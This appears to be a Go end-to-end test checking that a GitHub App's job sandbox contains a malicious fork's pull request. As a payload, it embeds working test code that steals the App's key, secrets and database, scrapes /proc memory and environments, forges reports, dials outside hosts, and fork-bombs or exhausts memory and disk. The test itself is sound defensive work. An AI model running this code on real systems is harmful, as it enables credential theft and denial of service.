package app

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	gh "github.com/google/go-github/v60/github"

	"github.com/interleave-dev/interleave/report/github/ghtest"
)

// attackTest is the fork's test file: when its test binary first starts,
// it tries every attack of issue 25 and keeps what it got, which the
// changed test then puts into its failure message (and so into the
// finding the App posts) and into files.
const attackTest = `package racy

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"time"
)

var loot string

func init() {
	// Once a job: a process that finished the attacks left their record,
	// renamed into place whole. One killed before that (its search's
	// budget ended) left none, and the next process attacks again.
	if b, err := os.ReadFile("/tmp/loot"); err == nil {
		loot = string(b)
		return
	}
	var b strings.Builder
	say := func(what string, got string, err error) {
		if len(got) > 600 {
			got = got[:600]
		}
		fmt.Fprintf(&b, "LOOT %s: ok=%v err=%v got=%q\n", what, err == nil, err, got)
	}
	read := func(what, path string) {
		data, err := os.ReadFile(path)
		say(what, string(data), err)
	}
	read("key", {{KEY}})
	read("secret", {{SECRET}})
	read("database", {{DB}})
	read("other clone", {{CLONE}})
	read("server environ", "/proc/{{PID}}/environ")
	read("server cmdline", "/proc/{{PID}}/cmdline")
	mem := func(what, pid string) {
		maps, err := os.ReadFile("/proc/" + pid + "/maps")
		if err != nil {
			say(what, "", err)
			return
		}
		f, err := os.Open("/proc/" + pid + "/mem")
		if err != nil {
			say(what, "", err)
			return
		}
		defer f.Close()
		var got []byte
		for _, line := range strings.Split(string(maps), "\n") {
			var lo, hi uint64
			var perm string
			if n, _ := fmt.Sscanf(line, "%x-%x %s", &lo, &hi, &perm); n == 3 && strings.HasPrefix(perm, "rw") {
				buf := make([]byte, min(hi-lo, 1<<20))
				n, _ := f.ReadAt(buf, int64(lo))
				got = append(got, buf[:n]...)
			}
		}
		say(what, string(got), nil)
	}
	mem("server memory", "{{PID}}")
	// Every process the job can see: its environment, memory and open
	// files; a writable descriptor gets a forged result.
	forged := ` + "`" + `{"exit":0,"report":{"version":1,"tool":{"name":"interleave"},"findings":[{"rule":"IL0000","message":"FORGED-REPORT via a descriptor"}]}}` + "`" + `
	procs, _ := os.ReadDir("/proc")
	for _, p := range procs {
		if p.Name()[0] < '0' || p.Name()[0] > '9' || p.Name() == fmt.Sprint(os.Getpid()) {
			continue
		}
		cmd, _ := os.ReadFile("/proc/" + p.Name() + "/cmdline")
		what := "process " + p.Name() + " " + strings.ReplaceAll(string(cmd), "\x00", " ")
		data, err := os.ReadFile("/proc/" + p.Name() + "/environ")
		say(what+" environ", string(data), err)
		fds, err := os.ReadDir("/proc/" + p.Name() + "/fd")
		if err != nil {
			say(what+" fds", "", err)
			continue
		}
		var failed []string
		for _, fd := range fds {
			f, err := os.OpenFile("/proc/"+p.Name()+"/fd/"+fd.Name(), os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				_, err = f.WriteString(forged)
				f.Close()
			}
			target, _ := os.Readlink("/proc/" + p.Name() + "/fd/" + fd.Name())
			if err == nil {
				say(what+" fd "+fd.Name()+" ("+target+") written", "", err)
			} else {
				failed = append(failed, fd.Name())
			}
		}
		if len(failed) > 0 {
			say(what+" fds "+strings.Join(failed, ",")+" written", "", fmt.Errorf("not writable"))
		}
	}
	// The server's files of this job and of others.
	for _, pattern := range []string{"report.json", "summary.md", "report.sarif", "../out/*", {{OUTS}}} {
		matches, _ := filepath.Glob(pattern)
		if len(matches) == 0 {
			matches = []string{pattern}
		}
		for _, m := range matches {
			err := os.WriteFile(m, []byte("FORGED-REPORT in a file"), 0o644)
			say("rewrite "+m, "", err)
		}
	}
	filepath.Walk({{WORK}}, func(path string, info os.FileInfo, err error) error {
		say("walk "+path, "", err)
		return nil
	})
	relay := strings.TrimSuffix(strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://"), "/")
	for _, addr := range []string{{{GITHUB}}, {{CANARYHOST}}, "140.82.112.3:443", "proxy.golang.org:443"} {
		if addr == relay {
			// The sandbox's network has its own loopback, where serve-job's
			// relay took, by chance, the port the host's server has: a
			// connection there reaches the relay, not the host.
			say("relay's port "+addr, "", nil)
			continue
		}
		c, err := net.DialTimeout("tcp", addr, 300*time.Millisecond)
		if err == nil {
			c.Write([]byte("LEAK"))
			c.Close()
		}
		say("connect "+addr, "", err)
	}
	// Through the server's proxy (serve-job's HTTP_PROXY), written by hand
	// as Go's client would (an absolute http:// request, a CONNECT): a
	// host not on the allow-list is refused, the allowed one answers.
	// (Not net/http: its packages' vet facts were most of the job's
	// static stage.)
	proxy := strings.TrimSuffix(strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://"), "/")
	if proxy == "" {
		say("proxy environment", "", fmt.Errorf("no HTTP_PROXY"))
	}
	ask := func(req string) (status, body string, err error) {
		c, err := net.DialTimeout("tcp", proxy, 10*time.Second)
		if err != nil {
			return "", "", err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := io.WriteString(c, req); err != nil {
			return "", "", err
		}
		r := bufio.NewReader(c)
		line, err := r.ReadString('\n')
		if err != nil {
			return "", "", err
		}
		_, status, _ = strings.Cut(strings.TrimSpace(line), " ")
		if !strings.HasPrefix(status, "200") {
			return status, "", fmt.Errorf("%s", status)
		}
		if strings.HasPrefix(req, "CONNECT") {
			return status, "", nil // a tunnel: nothing more to read
		}
		rest, _ := io.ReadAll(r)
		_, body, _ = strings.Cut(string(rest), "\r\n\r\n")
		return status, body, nil
	}
	get := func(host, path string) string {
		return "GET http://" + host + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
	}
	for _, req := range []struct{ what, text string }{
		{"http://" + {{CANARYHOST}} + "/via-proxy", get({{CANARYHOST}}, "/via-proxy")},
		{"https://" + {{CANARYHOST}} + "/via-connect", "CONNECT " + {{CANARYHOST}} + " HTTP/1.1\r\nHost: " + {{CANARYHOST}} + "\r\n\r\n"},
		{"http://140.82.112.3/", get("140.82.112.3", "/")},
	} {
		_, _, err := ask(req.text)
		say("proxy "+req.what, "", err)
	}
	if status, body, err := ask(get({{ALLOWED}}, "/")); err != nil {
		fmt.Fprintf(&b, "NET allowed host: %v\n", err)
	} else {
		fmt.Fprintf(&b, "NET allowed host: %s %s\n", status, body)
	}
	// /dev is a tmpfs of half the memory, which neither the watchdog nor
	// /tmp's size bounds.
	err := os.WriteFile("/dev/fill", make([]byte, 1<<20), 0o644)
	say("write /dev/fill", "", err)
	var cmds []*exec.Cmd
	for i := 0; i < 10000; i++ {
		c := exec.Command("sleep", "600")
		if err = c.Start(); err != nil {
			break
		}
		cmds = append(cmds, c)
	}
	fmt.Fprintf(&b, "LOOT forked %d of 10000: %v\n", len(cmds), err)
	for _, c := range cmds {
		c.Process.Kill()
		c.Wait()
	}
	loot = b.String()
	// Into the clone, next to this file (the test runs in a copy of its
	// package directory, interleave's privateDir, removed after it), then
	// the record that ends the attacks.
	_, self, _, _ := runtime.Caller(0)
	os.WriteFile(filepath.Join(filepath.Dir(self), "loot.txt"), []byte(loot), 0o644)
	tmp := fmt.Sprintf("/tmp/loot.%d", os.Getpid())
	if os.WriteFile(tmp, []byte(loot), 0o644) == nil {
		os.Rename(tmp, "/tmp/loot")
	}
	fmt.Fprint(os.Stderr, loot)
}
`

// hogTest and fillTest are pull requests' test files whose binary, as it
// starts, takes 4 GiB of memory, or writes 4 GiB into the job's build
// cache, and then hangs until it is killed.
const hogTest = `package racy

import "time"

var hogged [][]byte

func init() {
	for range 4096 {
		b := make([]byte, 1<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		hogged = append(hogged, b)
	}
	println("holding", len(hogged), "MiB")
	for {
		time.Sleep(time.Hour)
	}
}
`

const fillTest = `package racy

import (
	"fmt"
	"os"
	"time"
)

func init() {
	b := make([]byte, 64<<20)
	for i := range b {
		b[i] = byte(i)
	}
	// The job's build cache is on the server's disk; the test may run in
	// a copy of the module under /tmp.
	dir := os.Getenv("GOCACHE")
	for i := range 64 {
		if err := os.WriteFile(fmt.Sprintf("%s/fill-%d", dir, i), b, 0o644); err != nil {
			println(err.Error())
		}
	}
	println("wrote 4 GiB")
	for {
		time.Sleep(time.Hour)
	}
}
`

// TestAppUntrustedPullRequest runs interleave serve, as an operator would,
// against the fake GitHub. A fork's pull request waits for a maintainer's
// /retest-concurrency, then its test tries to steal the key, the secret,
// the database, another job's clone, the server's environment and memory,
// to forge its report, to reach the network and to fork 10,000 processes.
// Nothing secret may reach GitHub, what is posted is what the server
// built. With INTERLEAVE_E2E_LIMITS=1, two more pull requests take memory
// beyond -sandbox-memory and fill the disk beyond -sandbox-disk: each is
// stopped, and its check run says by which limit. The server then runs
// another pull request's job.
// The memory limit is the watchdog's, as in the Docker image.
func TestAppUntrustedPullRequest(t *testing.T) {
	needBinary(t)
	if runtime.GOOS != "linux" {
		t.Skip("the job sandbox (bubblewrap) exists only on Linux")
	}
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Skip("bubblewrap (bwrap) is not installed, so the job sandbox does not exist here; Debian: apt-get install bubblewrap")
	}
	canary := func(what string) string {
		b := make([]byte, 8)
		rand.Read(b)
		return what + "-canary-" + hex.EncodeToString(b)
	}
	envCanary, dbCanary, cloneCanary := canary("environ"), canary("database"), canary("clone")
	webhookSecret := canary("webhook-secret")

	key, pub := appKey(t)
	github := ghtest.New(t)
	github.AddApp(testAppID, pub, testInstID)
	github.SetPermission(owner, repoName, "maint", "write")
	for _, repo := range []string{"benign", "hog", "filler"} {
		github.SetPermission(owner, repo, "maint", "write")
	}

	// The operator's files, readable only by the server.
	root := t.TempDir()
	secrets := filepath.Join(root, "secrets")
	os.Mkdir(secrets, 0o700)
	keyFile, secretFile := filepath.Join(secrets, "app.pem"), filepath.Join(secrets, "webhook-secret")
	os.WriteFile(keyFile, key, 0o600)
	os.WriteFile(secretFile, []byte(webhookSecret+"\n"), 0o600)
	state := filepath.Join(root, "state")
	// The job's uid only traverses these, as for /var/lib.
	for _, d := range []string{filepath.Dir(root), root, state} {
		os.MkdirAll(d, 0o711)
		os.Chmod(d, 0o711)
	}
	dbPath, workDir := filepath.Join(state, "queue.db"), filepath.Join(state, "work")
	// Another job's clone, as a worker of the same server would leave it.
	otherClone := filepath.Join(workDir, "jobs", "j09999999", "src", "secret.go")
	os.MkdirAll(filepath.Dir(otherClone), 0o700)
	os.WriteFile(otherClone, []byte("package other // "+cloneCanary+"\n"), 0o600)

	// A host the job must not reach.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	dialed := make(chan string, 10)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(io.LimitReader(c, 100))
			dialed <- string(b)
			c.Close()
		}
	}()

	// A host the operator allows (-sandbox-allow-host), reached through
	// the server's proxy only.
	allowedSrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "reached-allowed") })}
	allowedLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go allowedSrv.Serve(allowedLn)
	defer allowedSrv.Close()

	seed := testSeed(t, filepath.Join(root, "seed"))
	cmd := exec.Command(interleaveBin, "serve", "-app-id", strconv.Itoa(testAppID), "-private-key", keyFile,
		"-webhook-secret-file", secretFile, "-db", dbPath, "-workdir", workDir, "-addr", "127.0.0.1:0",
		"-api-url", github.URL(), "-git-url", filepath.Join(root, "git"), "-budget", "2s", "-count", strconv.Itoa(jobCount), "-job-timeout", "20m",
		"-gocache-seed", seed, "-sandbox-nproc", "512", "-grace", "0s", "-keep-job-dirs",
		"-sandbox-cgroup", "none", "-sandbox-memory", "2GiB", "-sandbox-disk", "3GiB",
		"-sandbox-allow-host", "default", "-sandbox-allow-host", allowedLn.Addr().String())
	cmd.Env = append(os.Environ(), "INTERLEAVE_TEST_CANARY="+envCanary)
	server, logs, _, stop := startServe(t, cmd)
	defer stop()

	// The fork's pull request, which knows where everything lives.
	evil := filepath.Join(root, "git", owner, repoName)
	q := strconv.Quote
	attack := strings.NewReplacer("{{KEY}}", q(keyFile), "{{SECRET}}", q(secretFile), "{{DB}}", q(dbPath), "{{CLONE}}", q(otherClone),
		"{{PID}}", strconv.Itoa(cmd.Process.Pid), "{{OUTS}}", q(filepath.Join(workDir, "jobs", "*", "out", "*")), "{{WORK}}", q(workDir),
		"{{GITHUB}}", q(strings.TrimPrefix(strings.TrimSuffix(github.URL(), "/"), "http://")), "{{CANARYHOST}}", q(ln.Addr().String()), "{{ALLOWED}}", q(allowedLn.Addr().String())).Replace(attackTest)
	base, head := makeRepoWith(t, evil, map[string]string{
		"attack_test.go":  attack,
		"counter_test.go": strings.Replace(counterTest, `t.Fatalf("N = %d, want 2", c.N())`, `t.Fatalf("N = %d, want 2; what the pull request got:\n%s", c.N(), loot)`, 1),
	})
	github.AddPull(ghtest.Pull{Owner: owner, Repo: repoName, Number: prNumber, HeadSHA: head, BaseSHA: base, Fork: true, Files: repoFiles})
	deliver := func(event, delivery string, body []byte) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodPost, server+"/webhook", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-GitHub-Event", event)
		req.Header.Set("X-GitHub-Delivery", delivery)
		req.Header.Set("X-Hub-Signature-256", ghtest.Sign([]byte(webhookSecret), body))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("delivery %s: status %d", delivery, resp.StatusCode)
		}
	}
	waitFor := func(what string, cond func() bool) {
		t.Helper()
		// Only a hang guard: a job under a load of 25 takes over 4 minutes.
		deadline := time.Now().Add(25 * time.Minute)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %s", what)
			}
			if cmd.ProcessState != nil {
				t.Fatalf("the server exited while waiting for %s", what)
			}
			if strings.Contains(logs.String(), `"msg":"job failed"`) && !strings.Contains(logs.String(), `"msg":"failure posted"`) {
				t.Fatalf("a job failed without posting while waiting for %s", what)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	completed := func(repo, sha string) *gh.CheckRun {
		for _, r := range github.CheckRuns(owner, repo) {
			if r.GetHeadSHA() == sha && r.GetStatus() == "completed" {
				return r
			}
		}
		return nil
	}

	// 1. The fork's push waits: a queued check run says for what.
	deliver("pull_request", dbCanary+"-1", payload(t, "pull_request", "opened", map[string]any{
		"number": prNumber, "pull_request.number": prNumber, "pull_request.head.sha": head, "pull_request.base.sha": base,
		"pull_request.head.repo.full_name": "outsider/" + repoName, "pull_request.user.login": "outsider", "sender.login": "outsider",
	}))
	waitFor("the waiting check run", func() bool { return len(github.CheckRuns(owner, repoName)) == 1 })
	if r := github.CheckRuns(owner, repoName)[0]; r.GetStatus() != "queued" || !strings.Contains(r.GetOutput().GetSummary(), "comes from a fork") ||
		!strings.Contains(r.GetOutput().GetSummary(), "/retest-concurrency") {
		t.Fatalf("check run %s %q: %q, want queued, saying it waits for /retest-concurrency on a fork", r.GetStatus(), r.GetOutput().GetTitle(), r.GetOutput().GetSummary())
	}

	// 2. A maintainer's go-ahead runs it, in the sandbox. Its searches
	// stop at the server's -count; the budget is only a hang guard: at
	// its end the search kills its test processes, and one killed in the
	// attack's init (minutes under load) leaves every later one no loot.
	body := "/retest-concurrency budget=" + retestGuard
	id := github.SeedIssueComment(owner, repoName, prNumber, gh.IssueComment{Body: gh.String(body), User: &gh.User{Login: gh.String("maint"), Type: gh.String("User")}})
	deliver("issue_comment", dbCanary+"-2", payload(t, "issue_comment", "created", map[string]any{
		"issue.number": prNumber, "issue.state": "open",
		"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/" + owner + "/" + repoName + "/pulls/7"},
		"comment.id":         id, "comment.body": body, "comment.user.login": "maint", "comment.user.type": "User",
		"sender.login": "maint", "sender.type": "User",
	}))
	waitFor("the fork's results", func() bool { return completed(repoName, head) != nil })

	// 3. Beyond the memory limit and the disk quota: the job is stopped
	// and says why.
	// A large budget: interleave pr kills a test binary that hangs as it
	// starts only at the end of its share of the budget, so the hog and
	// the filler hold what they took for minutes, not for as long as the
	// machine's speed allows; stopped at their limit, the jobs end sooner.
	maintPush := func(repo string, files map[string]string) string {
		t.Helper()
		base, head := makeRepoWith(t, filepath.Join(root, "git", owner, repo), files)
		github.AddPull(ghtest.Pull{Owner: owner, Repo: repo, Number: 1, HeadSHA: head, BaseSHA: base, Files: repoFiles})
		body := "/retest-concurrency budget=3m"
		id := github.SeedIssueComment(owner, repo, 1, gh.IssueComment{Body: gh.String(body), User: &gh.User{Login: gh.String("maint"), Type: gh.String("User")}})
		deliver("issue_comment", repo+"-1", payload(t, "issue_comment", "created", map[string]any{
			"repository.name": repo, "repository.full_name": owner + "/" + repo,
			"issue.number": 1, "issue.state": "open",
			"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/" + owner + "/" + repo + "/pulls/1"},
			"comment.id":         id, "comment.body": body, "comment.user.login": "maint", "comment.user.type": "User",
			"sender.login": "maint", "sender.type": "User",
		}))
		waitFor(repo+"'s check run", func() bool { return completed(repo, head) != nil })
		return head
	}
	// Each takes minutes and gigabytes of the machine, so it runs only
	// from scripts/app-limits-e2e.sh; by default the watchdog's own tests
	// (TestWatchdogStopsJobOverMemory, TestWatchdogDiskQuota) check the
	// limits and their check-run text.
	limits := []struct{ repo, file, test, title, says string }{
		{"hog", "hog_test.go", hogTest, "interleave ran out of memory", "over the job's memory limit of 2 GiB"},
		{"filler", "fill_test.go", fillTest, "interleave ran out of disk space", "over the job's disk quota of 3 GiB"},
	}
	if os.Getenv("INTERLEAVE_E2E_LIMITS") != "1" {
		t.Log("the memory hog and the disk filler are left out: INTERLEAVE_E2E_LIMITS=1 (scripts/app-limits-e2e.sh) runs them")
		limits = nil
	}
	for _, c := range limits {
		head := maintPush(c.repo, map[string]string{c.file: c.test})
		r := completed(c.repo, head)
		if r.GetConclusion() != "failure" || r.GetOutput().GetTitle() != c.title || !strings.Contains(r.GetOutput().GetSummary(), c.says) ||
			!strings.Contains(r.GetOutput().GetSummary(), "the server killed all its processes") {
			t.Errorf("%s's check run: %s %q %.2000q, want a failure %q saying %q", c.repo, r.GetConclusion(), r.GetOutput().GetTitle(), r.GetOutput().GetSummary(), c.title, c.says)
		}
		// Its directory, kept by -keep-job-dirs, is gigabytes (a copy of
		// the seed's entries, the filler's files) nothing needs.
		dirs, _ := filepath.Glob(filepath.Join(workDir, "jobs", "*", "src", c.file))
		for _, d := range dirs {
			os.RemoveAll(filepath.Dir(filepath.Dir(d)))
		}
	}

	// 4. The server still serves: another repository's pull request runs.
	// A maintainer's comment with a budget, as in 2: the search stops at
	// the server's -count, and the server's 2s would leave a loaded
	// machine no schedule to find the lost update with. Its base turns
	// gen off too: under that budget gen's automatic share ran twelve
	// generated tests, more than half the job, which nothing here checks.
	okBase, okHead := makeRepoConfig(t, filepath.Join(root, "git", owner, "benign"), queueConfig)
	github.AddPull(ghtest.Pull{Owner: owner, Repo: "benign", Number: 1, HeadSHA: okHead, BaseSHA: okBase, Files: repoFiles})
	okBody := "/retest-concurrency budget=" + retestGuard
	okID := github.SeedIssueComment(owner, "benign", 1, gh.IssueComment{Body: gh.String(okBody), User: &gh.User{Login: gh.String("maint"), Type: gh.String("User")}})
	deliver("issue_comment", "benign-1", payload(t, "issue_comment", "created", map[string]any{
		"repository.name": "benign", "repository.full_name": owner + "/benign",
		"issue.number": 1, "issue.state": "open",
		"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/" + owner + "/benign/pulls/1"},
		"comment.id":         okID, "comment.body": okBody, "comment.user.login": "maint", "comment.user.type": "User",
		"sender.login": "maint", "sender.type": "User",
	}))
	waitFor("the other pull request's results", func() bool { return completed("benign", okHead) != nil })
	if r := completed("benign", okHead); r.GetConclusion() != "failure" || !strings.Contains(r.GetOutput().GetSummary(), "counter.go") {
		t.Errorf("the other pull request's check run: %s %q, want a failure naming counter.go", r.GetConclusion(), r.GetOutput().GetSummary())
	}
	if resp, err := http.Get(server + "/healthz"); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("healthz: %v %v", resp, err)
	}
	// The server's warm seed holds the go vet facts of testing and the
	// standard packages it imports under the jobs' vet tool (the server's
	// copy of interleaveBin, which jobs run from another path): a job's go
	// vet of a package and its test runs the tool on those two only.
	if runs := vetToolRuns(t, seed, interleaveBin, filepath.Join(root, "vetcheck")); runs > 2 {
		t.Errorf("a job's go vet of one package and its test ran the vet tool %d times: the seed lacks the standard library's facts", runs)
	}
	t.Logf("what the jobs used:\n%s", strings.Join(regexp.MustCompile(`(?m)^.*"msg":"job resources".*$`).FindAllString(logs.String(), -1), "\n"))

	// Nothing secret reached GitHub, and nothing the job forged.
	keyLines := strings.Split(strings.TrimSpace(string(key)), "\n")
	secretsOf := map[string]string{
		"the App's private key": keyLines[len(keyLines)/2], "the webhook secret": webhookSecret,
		"the server's environment": envCanary, "the database": dbCanary, "another job's clone": cloneCanary,
		"a forged report": "FORGED-REPORT",
	}
	var posted strings.Builder
	for _, r := range github.Requests() {
		text := r.Method + " " + r.Path + "?" + r.RawQuery + "\n" + string(r.Body)
		posted.WriteString(text + "\n")
		for what, s := range secretsOf {
			if strings.Contains(text, s) || strings.Contains(text, strings.ReplaceAll(s, "+", `\u002b`)) {
				t.Errorf("%s reached GitHub in %s %s:\n%.2000s", what, r.Method, r.Path, r.Body)
			}
		}
	}
	select {
	case got := <-dialed:
		t.Errorf("the job connected to a host it may not reach and sent %q", got)
	default:
	}

	// What the test got, as it posted it through its failure message: no
	// attack succeeded.
	run := completed(repoName, head)
	lootRE := regexp.MustCompile(`LOOT ([^\n]*?): ok=(true|false)`)
	// pr posts a test's failure message only with some findings (not
	// with the data race found here); the test also wrote it into its
	// clone, kept by -keep-job-dirs.
	all := posted.String()
	files, _ := filepath.Glob(filepath.Join(workDir, "jobs", "j0000000[12]", "src", "loot.txt"))
	for _, f := range files {
		b, _ := os.ReadFile(f)
		all += "\n" + string(b)
	}
	attempts := lootRE.FindAllStringSubmatch(all, -1)
	if len(attempts) == 0 {
		// What the fork's job did instead: its processes killed before
		// the attacks ended, or never run.
		t.Fatalf("no record of the attacks, posted or in the clone; the fork's job's log ends:\n%s", tail(filepath.Join(workDir, "jobs", "j00000001", "out", prLogFile)))
	}
	t.Logf("what the pull request's test got:\n%s", strings.Join(regexp.MustCompile(`(?m)^LOOT .*$`).FindAllString(all, -1), "\n"))
	trusted := regexp.MustCompile(`^process \d+ /job/bin/interleave serve-job`)
	for _, m := range attempts {
		what, ok := m[1], m[2] == "true"
		switch {
		case trusted.MatchString(what) && ok:
			t.Errorf("the job could use the trusted serve-job process: %s", what)
		case strings.HasPrefix(what, "process "), strings.HasPrefix(what, "walk "), strings.HasPrefix(what, "relay's port "):
			// Its own processes (their environment is the job's, their
			// descriptors its log and its pipes), walking what it can
			// see, and its own relay (on a host server's port number by
			// chance) are allowed.
		case strings.HasPrefix(what, "rewrite ") && ok:
			// Files in its own clone; the server never reads them.
			if !strings.HasPrefix(what, "rewrite report.json") && !strings.HasPrefix(what, "rewrite summary.md") && !strings.HasPrefix(what, "rewrite report.sarif") {
				t.Errorf("the job rewrote a file outside its clone: %s", what)
			}
		case ok && !strings.HasPrefix(what, "process ") && !strings.HasPrefix(what, "rewrite "):
			t.Errorf("attack %q succeeded", what)
		}
	}
	if m := regexp.MustCompile(`LOOT forked (\d+) of 10000`).FindStringSubmatch(all); m == nil {
		t.Errorf("the fork bomb's count was not posted")
	} else if n, _ := strconv.Atoi(m[1]); n >= 512 {
		t.Errorf("the job started %d processes, more than its limit of 512", n)
	}
	// The network policy: the allowed host answered through the proxy;
	// the canary host was refused, logged with the job, and counted in the
	// job's notes.
	if !strings.Contains(all, "NET allowed host: 200 OK reached-allowed") {
		t.Errorf("the allowed host was not reached through the proxy: %q", regexp.MustCompile(`(?m)^NET .*$`).FindAllString(all, -1))
	}
	if !regexp.MustCompile(`"msg":"network policy refused a connection","job":"j\d+","host":"` + regexp.QuoteMeta(ln.Addr().String()) + `"`).MatchString(logs.String()) {
		t.Errorf("no refusal of %s logged", ln.Addr())
	}
	reports, _ := filepath.Glob(filepath.Join(workDir, "jobs", "j0000000[12]", "out", reportFile))
	var notes string
	searched := 0
	for _, f := range reports {
		b, _ := os.ReadFile(f)
		notes += string(b)
		// The server's -count reached the job's pr: no test searched more
		// than that many schedules per worker (and its unperturbed run).
		var rep struct {
			Tests []struct {
				Test      string
				Schedules int
			}
		}
		json.Unmarshal(b, &rep)
		for _, tr := range rep.Tests {
			t.Logf("%s: %s: %d schedules", filepath.Base(filepath.Dir(filepath.Dir(f))), tr.Test, tr.Schedules)
			searched++
			if tr.Schedules > jobCount*runtime.NumCPU()+1 {
				t.Errorf("%s: %s ran %d schedules, more than -count %d allows %d workers", f, tr.Test, tr.Schedules, jobCount, runtime.NumCPU())
			}
		}
	}
	if searched == 0 {
		t.Errorf("no job's report lists a searched test")
	}
	if !strings.Contains(notes, "network policy refused ") || !strings.Contains(notes, ln.Addr().String()+" (") {
		t.Errorf("the fork's report does not count the refusals in its notes: %.3000s", notes)
	}
	// The posted text is the server's: post's own rendering of the
	// findings, the lost update on counter.go.
	if !strings.Contains(run.GetOutput().GetSummary(), "counter.go") {
		t.Errorf("check run summary %.2000q does not name counter.go", run.GetOutput().GetSummary())
	}
}

// jobCount is the server's -count in TestAppUntrustedPullRequest.
const jobCount = 20

// retestGuard is the budget= of its maintainers' comments: below the
// server's -job-timeout, a hang guard, not a bound the search meets.
const retestGuard = "15m"

// makeRepoWith is makeRepo whose head commit also writes files, and
// whose base's .interleave.yaml turns gen off: these jobs are about what
// the head's tests do.
func makeRepoWith(t *testing.T, dir string, files map[string]string) (base, head string) {
	t.Helper()
	base, _ = makeRepoConfig(t, dir, queueConfig)
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git := exec.Command("git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "add", ".")
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git add: %v\n%s", err, out)
	}
	git = exec.Command("git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "attack")
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git commit: %v\n%s", err, out)
	}
	out, _ := exec.Command("git", "-C", dir, "rev-parse", "HEAD").Output()
	return base, strings.TrimSpace(string(out))
}

// startServe starts cmd, an interleave serve, and waits until it serves:
// its URL, its log, a channel closed when it exits, and stop (interrupt,
// wait, and the log when the test failed), which the caller defers.
func startServe(t *testing.T, cmd *exec.Cmd) (server string, logs *syncBuffer, exited <-chan struct{}, stop func()) {
	t.Helper()
	logs = &syncBuffer{}
	stderr, _ := cmd.StderrPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	addr, done := make(chan string, 1), make(chan struct{})
	go func() {
		defer close(done)
		sc := bufio.NewScanner(stderr)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			logs.Write(append(sc.Bytes(), '\n'))
			var l struct{ Msg, Addr string }
			if json.Unmarshal(sc.Bytes(), &l) == nil && l.Msg == "serving" {
				addr <- l.Addr
			}
		}
		close(addr)
	}()
	stop = func() {
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
		if t.Failed() {
			t.Logf("server log:\n%s", logs.String())
		}
	}
	a, ok := <-addr
	if !ok {
		cmd.Wait()
		t.Fatalf("interleave serve did not start:\n%s", logs.String())
	}
	return "http://" + a, logs, done, stop
}
